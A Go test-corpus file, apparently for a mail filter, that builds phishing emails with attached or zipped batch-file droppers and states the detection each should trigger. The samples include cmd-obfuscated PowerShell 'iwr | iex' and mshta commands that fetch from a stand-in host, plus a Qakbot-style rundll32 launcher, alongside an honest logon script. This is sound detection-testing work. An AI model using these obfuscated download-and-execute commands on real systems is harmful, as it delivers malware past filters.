package corpus

import (
	"github.com/kensa-milter/kensa/policy"
)

// Batch files (.bat, .cmd) that download or run something, their commands
// hidden by cmd's own obfuscation, attached and zipped (batch-command).
// The stand-ins fetch from reserved names and start notepad. An honest
// logon script is in the malicious set too, because every batch file is
// quarantined by name (dangerous-script): it must get no batch-command.
func batchSamples() []Sample {
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	body := text("Hello,\n\nplease run the attached file to open the documents.\n\nRegards,\nAccounts\n")
	droppers := []struct{ key, about, name, script string }{
		{"powershell-dosfuscated", "a batch file whose PowerShell download is spelled with variables set and joined, a letter cut out of %ProgramData% and carets",
			"Invoice_4471.bat", "@echo off\r\nset x=ersh\r\nset u=ht^tps:/\r\nset w=-w h^idden\r\n%ProgramData:~3,1%o^w%x%ell %w% -nop -c \"i%ProgramData:~-1,0%wr %u%/cdn.bat-kit.example.net/i.ps1 | i%COMSPEC:~-3,1%x; notepad\"\r\nexit\r\n"},
		{"mshta-delayed", "a .cmd file that builds mshta and its web address with delayed expansion inside cmd /v:on",
			"Scan_0427.cmd", "@echo off\r\ncmd /v:on /c \"set m=ms&& set t=hta&& !m!!t! https://cdn.bat-kit.example.net/s.hta\"\r\n"},
	}
	for _, d := range droppers {
		add(Sample{Name: "bat-" + d.key, About: d.about, Action: policy.Reject, Want: []Want{w("heuristic", "batch-command", "2")}},
			mail{subject: "Documents", root: multipart("mixed", body, attach("application/octet-stream", d.name, []byte(d.script)))})
		add(Sample{Name: "bat-" + d.key + "-in-zip", About: d.about + " (in a zip)", Action: policy.Reject, Want: []Want{w("heuristic", "batch-command", "2/documents.zip/"+d.name)}},
			mail{subject: "Documents", root: multipart("mixed", body, attach("application/zip", "documents.zip", zipOf(file{d.name, []byte(d.script)})))})
	}
	add(Sample{Name: "bat-rundll32-beside-in-zip", About: "a zipped batch file that starts rundll32 on a DLL beside it (the Qakbot shape)", Action: policy.Reject,
		Want: []Want{w("heuristic", "batch-command", "2/documents.zip/open.cmd")}},
		mail{subject: "Documents", root: multipart("mixed", body, attach("application/zip", "documents.zip",
			zipOf(file{"open.cmd", []byte("@echo off\r\nst^art /min run^dll32 data\\notepad.dat,DllRegisterServer\r\n")}, file{"data/notepad.dat", []byte("stand-in, not a DLL\r\n")})))})
	add(Sample{Name: "bat-honest-logon", About: "an honest logon script (drives, printers, the intranet page, a backup with robocopy and PowerShell's Compress-Archive), quarantined as every batch file is, without batch-command",
		Action: policy.Quarantine, Want: []Want{w("heuristic", "dangerous-script", "2")}},
		mail{from: "IT Service Desk <it@corp.example.jp>", subject: "Logon script", root: multipart("mixed", text("Kenji, here is the new logon script for the branch office.\n"),
			attach("application/octet-stream", "logon.bat", []byte("@echo off\r\nrem Branch logon script, see https://intranet.corp.example.jp/it\r\n"+
				"net use Z: \\\\fileserver\\share /persistent:no\r\ncscript //nologo \\\\fileserver\\netlogon\\printers.vbs\r\n"+
				"setlocal EnableDelayedExpansion\r\nset \"dest=\\\\nas\\backup\\%USERNAME%\"\r\nrobocopy \"%USERPROFILE%\\Documents\" \"!dest!\" /MIR /R:2 /LOG:\"%TEMP%\\backup.log\"\r\n"+
				"powershell -NoProfile -Command \"Compress-Archive -Path C:\\Data -DestinationPath !dest!\\data.zip -Force\"\r\n"+
				"start \"\" \"https://intranet.corp.example.jp/\"\r\n")))})
	return out
}
